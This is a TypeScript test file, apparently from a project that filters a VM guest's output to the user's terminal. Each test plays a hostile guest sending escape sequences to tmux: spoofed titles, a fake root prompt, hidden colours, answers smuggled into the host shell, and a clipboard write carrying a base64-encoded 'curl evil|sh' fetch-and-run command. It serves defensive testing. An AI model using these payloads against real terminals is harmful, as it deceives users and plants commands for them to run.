// A hostile VM writes to the user's terminal: each attack is seen to work without the guard and to fail with it.
import { afterAll, beforeAll } from "vitest";
import { type ATerminal, createTerminal, type How } from "../integration/terminal/a-terminal.ts";
import { attack } from "./attacks.ts";

let user: ATerminal;
beforeAll(async () => {
  user = await createTerminal();
});
afterAll(() => user.remove());

/** Writes `printf`'s text as the guest, and stays until a key is pressed. */
const write = (text: string) => `printf '${text}'; printf '\\r\\nwritten\\r\\n'; read -r _`;
const written = () => user.until(() => user.screen().includes("written"));
const buffers = () => user.tmux("list-buffers", "-F", "#{buffer_sample}");

interface OnTerminal {
  /** What the guest runs. */
  script: string;
  /** The host's shell line with the session as $SESSION. */
  around?: string;
  /** It is a race that the attacker does not always win: so often it is begun. */
  tries?: number;
  fired(): boolean | Promise<boolean>;
}

const afterwards = async () => {
  user.keys("Enter");
  return user.ended();
};
const readsAnswer = (question: string) =>
  `stty raw -echo; printf '${question}'; answer=$(timeout --foreground 2 dd bs=1 count=60 2>/dev/null | tr -dc '[:print:]'); stty sane; echo "got<$answer>"; echo written; read -r _`;
const answered = (pattern: RegExp) => () => pattern.test(user.screen());

const ATTACKS: Record<string, OnTerminal> = {
  "a title that lies": {
    script: write("\\033]0;FAKE TITLE\\007"),
    fired: () => user.value("#{pane_title}") === "FAKE TITLE",
  },
  "a title from an error stream, cut in two": {
    script:
      "printf '\\033]0;FAKE ' >&2; sleep 0.3; printf 'TITLE\\007' >&2; sleep 0.3; echo; echo written; sleep 60",
    around: "$SESSION </dev/null",
    fired: () => user.value("#{pane_title}") === "FAKE TITLE",
  },
  "a title within a link and a colour": {
    script: write("\\033]8;;http://a\\033[3\\033]2;FAKE TITLE\\007"),
    fired: () => user.value("#{pane_title}") === "FAKE TITLE",
  },
  "a window that calls itself something else": {
    script: write("\\033kFAKE NAME\\033\\\\"),
    fired: () => user.value("#{window_name}") === "FAKE NAME",
  },
  "a command put into the clipboard": {
    script: write("\\033]52;c;Y3VybCBldmlsfHNo\\007"),
    fired: () => buffers().includes("curl evil|sh"),
  },
  "the clipboard read": {
    script: readsAnswer("\\033]52;c;?\\007"),
    fired: answered(/got<.*bXkgc2VjcmV0IGNvcHk=/),
  },
  "the terminal asked what it is": {
    script: readsAnswer("\\033[>q"),
    fired: answered(/got<.*tmux \d/),
  },
  "the window's size asked, not by the system": {
    script: readsAnswer("\\033[18t"),
    // tmux 3.3 mixes the two up.
    fired: answered(/got<.*8;(30;100|100;30)t/),
  },
  "an answer left for the host's shell": {
    // The terminal is still busy with the numbers when the session has ended.
    tries: 5,
    script: "stty -echo; seq 1 30000; for i in 1 2 3 4 5 6 7 8; do printf '\\033[c\\033[5n\\033[6n'; done",
    fired: async () => /\[/.test((await user.ended()).waiting),
  },
  "questions when nobody reads the answers": {
    script: "printf '\\033[c\\033[5n'",
    around: "$SESSION </dev/null",
    fired: async () => /\[/.test((await user.ended()).waiting),
  },
  "the mouse left on, so that its moves are typed": {
    script: write("\\033[?1003h\\033[?1006h"),
    fired: async () => {
      await afterwards();
      return user.value("#{mouse_any_flag}") === "1";
    },
  },
  "the host's shell left on a false screen": {
    script: write("\\033[?1049h\\033[?25lroot@host# "),
    fired: async () => {
      await afterwards();
      return user.value("#{alternate_on}#{cursor_flag}") === "10";
    },
  },
  "colours that hide what comes after": {
    script: write("\\033]10;#010101\\007\\033]11;#010101\\007"),
    fired: async () => {
      await afterwards();
      return user.value("#{pane_bg}") === "#010101";
    },
  },
};

/** Without the guard it may be tried again, as a busy machine can be too slow for an answer in time. */
async function fires(one: OnTerminal, how: How): Promise<boolean> {
  for (let left = how === "raw" ? 5 : (one.tries ?? 1); left > 0; left -= 1) {
    await user.open(how, one.script, one.around);
    if (one.script.includes("written")) await written();
    if (await one.fired()) return true;
  }
  return false;
}

for (const [name, one] of Object.entries(ATTACKS)) {
  attack(name, {
    guard: "the terminal's filter",
    play: (guarded) => fires(one, guarded ? "guarded" : "raw"),
  });
}
